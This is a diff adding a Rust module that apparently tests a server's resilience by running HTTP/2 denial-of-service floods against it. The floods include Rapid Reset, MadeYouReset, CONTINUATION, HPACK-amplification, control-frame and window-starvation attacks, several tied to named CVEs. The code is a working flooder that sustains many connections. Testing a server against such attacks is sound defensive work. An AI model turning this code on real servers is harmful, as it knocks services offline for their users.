@@ -1,0 +1,244 @@
+//! HTTP/2 spoken so that it costs the server much and the peer little.
+
+use std::{
+    sync::Arc,
+    time::{Duration, Instant},
+};
+
+use bytes::{Buf, BytesMut};
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::tcp::ReadHalf,
+    task::JoinSet,
+    time::{interval, timeout},
+};
+
+use super::{
+    Target,
+    frames::{
+        CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM,
+        SETTINGS, WINDOW_UPDATE, fields, frame, indexed, opening,
+    },
+};
+
+/// A way to be costly.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Flood {
+    /// Streams that are opened and reset at once (CVE-2023-44487).
+    RapidReset,
+    /// Streams that the server is made to reset (CVE-2025-8671).
+    MadeYouReset,
+    /// A head that goes on and on (CVE-2024-27316).
+    Continuation,
+    /// The same, of frames with nothing in them.
+    EmptyContinuation,
+    /// SETTINGS, each of which is to be acknowledged.
+    Settings,
+    /// PING, each of which is to be answered.
+    Ping,
+    /// PRIORITY of streams that there are not.
+    Priority,
+    /// The window of the connection, a byte more each time.
+    WindowUpdate,
+    /// A body of frames with nothing in them.
+    EmptyData,
+    /// A body of a byte a frame.
+    ByteData,
+    /// A few bytes that stand for a large list of fields (CVE-2016-6581).
+    Hpack,
+    /// Requests whose answers never get a window.
+    ZeroWindow,
+    /// Requests whose answers get a window of one byte.
+    ByteWindow,
+    /// Requests that are right and go on whatever the server says: harmless, but when it wants to end the connection.
+    Heedless,
+}
+
+/// What became of one connection.
+#[derive(Debug, Clone, Copy)]
+pub struct Flooded {
+    /// How long the server bore it; `None` when it was open at the end.
+    pub life: Option<Duration>,
+    /// The code of the last GOAWAY.
+    pub goaway: Option<u32>,
+    /// How many frames were sent.
+    pub frames: usize,
+}
+
+impl Flood {
+    /// All that are ended while the server runs.
+    pub const ALL: [Self; 13] = [
+        Self::RapidReset,
+        Self::MadeYouReset,
+        Self::Continuation,
+        Self::EmptyContinuation,
+        Self::Settings,
+        Self::Ping,
+        Self::Priority,
+        Self::WindowUpdate,
+        Self::EmptyData,
+        Self::ByteData,
+        Self::Hpack,
+        Self::ZeroWindow,
+        Self::ByteWindow,
+    ];
+
+    /// Whether it is so plain that the server ends the connection with an error, and waits for no limit of time.
+    pub fn is_plain(self) -> bool {
+        use Flood::{Continuation, EmptyContinuation, EmptyData, Hpack, MadeYouReset, RapidReset};
+        matches!(self, RapidReset | MadeYouReset | Continuation | EmptyContinuation | EmptyData | Hpack)
+    }
+
+    /// Whether it asks once and then waits, and the write limit ends it.
+    pub fn withholds_window(self) -> bool {
+        matches!(self, Self::ZeroWindow | Self::ByteWindow)
+    }
+}
+
+/// Keeps so many connections in this flood for a time; one that is ended is followed by another. `batch` frames are
+/// sent on each every 5 ms.
+pub async fn flood(target: &Arc<Target>, flood: Flood, many: usize, batch: usize, time: Duration) -> Vec<Flooded> {
+    let end = Instant::now() + time;
+    let mut peers = JoinSet::new();
+    for _ in 0..many {
+        let target = target.clone();
+        peers.spawn(async move {
+            let mut all = Vec::new();
+            while Instant::now() < end {
+                all.push(connection(&target, flood, batch, end).await);
+                // Else it is a flood of connections.
+                tokio::time::sleep(Duration::from_millis(50)).await;
+            }
+            all
+        });
+    }
+    peers.join_all().await.into_iter().flatten().collect()
+}
+
+/// One connection, until the server ends it or this moment comes.
+pub(super) async fn connection(target: &Target, flood: Flood, batch: usize, end: Instant) -> Flooded {
+    let mut sender = Sender { flood, authorization: target.authorization(), next: 1, frames: 0 };
+    let mut goaway = None;
+    let begun = Instant::now();
+    let mut stream = target.connect().await;
+    let (mut read, mut write) = stream.split();
+    let sending = async {
+        let mut pace = interval(Duration::from_millis(5));
+        let mut bytes = sender.opening();
+        while write.write_all_buf(&mut bytes).await.is_ok() {
+            pace.tick().await;
+            for _ in 0..batch {
+                sender.more(&mut bytes);
+            }
+        }
+        // The other half sees the end.
+        std::future::pending::<()>().await;
+    };
+    let reading = read_frames(&mut read, &mut goaway);
+    let over = timeout(end.saturating_duration_since(Instant::now()), async {
+        tokio::select! {
+            () = sending => {}
+            () = reading => {}
+        }
+    });
+    let life = over.await.ok().map(|()| begun.elapsed());
+    Flooded { life, goaway, frames: sender.frames }
+}
+
+/// Until the server closes.
+async fn read_frames(stream: &mut ReadHalf<'_>, goaway: &mut Option<u32>) {
+    let mut bytes = BytesMut::new();
+    while matches!(stream.read_buf(&mut bytes).await, Ok(1..)) {
+        while bytes.len() >= 9 {
+            let length = usize::from(bytes[0]) << 16 | usize::from(bytes[1]) << 8 | usize::from(bytes[2]);
+            if bytes.len() < 9 + length {
+                break;
+            }
+            let kind = bytes[3];
+            bytes.advance(9);
+            let mut payload = bytes.split_to(length);
+            if kind == GOAWAY {
+                payload.advance(4);
+                *goaway = Some(payload.get_u32());
+            }
+        }
+    }
+}
+
+struct Sender {
+    flood: Flood,
+    authorization: String,
+    next: u32,
+    frames: usize,
+}
+
+impl Sender {
+    fn opening(&self) -> BytesMut {
+        let window = match self.flood {
+            Flood::ZeroWindow => 0,
+            Flood::ByteWindow => 1,
+            _ => 65_535,
+        };
+        opening(&[(INITIAL_WINDOW_SIZE, window)])
+    }
+
+    /// The next frames of the flood.
+    fn more(&mut self, into: &mut BytesMut) {
+        let (stream, first) = (self.next, self.next == 1);
+        let before = into.len();
+        match self.flood {
+            Flood::RapidReset => {
+                self.ask(into, "GET", "/v1/clients");
+                frame(into, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
+            }
+            Flood::MadeYouReset => {
+                self.ask(into, "POST", "/v1/leads");
+                // More than a window may be, which is an error of the stream.
+                frame(into, WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
+            }
+            Flood::Continuation | Flood::EmptyContinuation if first => {
+                let block = self.head("GET", "/v1/clients");
+                frame(into, HEADERS, END_STREAM, stream, &block);
+                self.next += 2;
+            }
+            Flood::Continuation => frame(into, CONTINUATION, 0, 1, &fields([("x-more", "and more")])),
+            Flood::EmptyContinuation => frame(into, CONTINUATION, 0, 1, &[]),
+            Flood::Settings => frame(into, SETTINGS, 0, 0, &[]),
+            Flood::Ping => frame(into, PING, 0, 0, &[0; 8]),
+            Flood::Priority => frame(into, PRIORITY, 0, 1_001, &[0, 0, 0, 3, 16]),
+            Flood::WindowUpdate => frame(into, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
+            Flood::EmptyData | Flood::ByteData if first => self.ask(into, "POST", "/v1/leads"),
+            Flood::EmptyData => frame(into, DATA, 0, 1, &[]),
+            Flood::ByteData => frame(into, DATA, 0, 1, b" "),
+            Flood::Hpack => {
+                let mut block = self.head("GET", "/v1/clients");
+                block.extend(indexed("x-large", &"y".repeat(3_900)));
+                // The newest entry of the dynamic table, again and again.
+                block.extend(std::iter::repeat_n(0xbe, 10_000));
+                frame(into, HEADERS, END_HEADERS | END_STREAM, stream, &block);
+                self.next += 2;
+            }
+            Flood::Heedless => self.ask(into, "GET", "/v1/clients"),
+            // As many as may be open at a time.
+            Flood::ZeroWindow | Flood::ByteWindow if stream < 200 => self.ask(into, "GET", "/v1/leads?limit=200"),
+            Flood::ZeroWindow | Flood::ByteWindow => {}
+        }
+        self.frames += usize::from(into.len() > before);
+    }
+
+    fn ask(&mut self, into: &mut BytesMut, method: &str, path: &str) {
+        let end = if method == "GET" { END_STREAM } else { 0 };
+        frame(into, HEADERS, END_HEADERS | end, self.next, &self.head(method, path));
+        self.next += 2;
+    }
+
+    fn head(&self, method: &str, path: &str) -> Vec<u8> {
+        fields([
+            (":method", method),
+            (":scheme", "http"),
+            (":authority", "localhost"),
+            (":path", path),
+            ("authorization", &self.authorization),
+        ])
+    }
+}
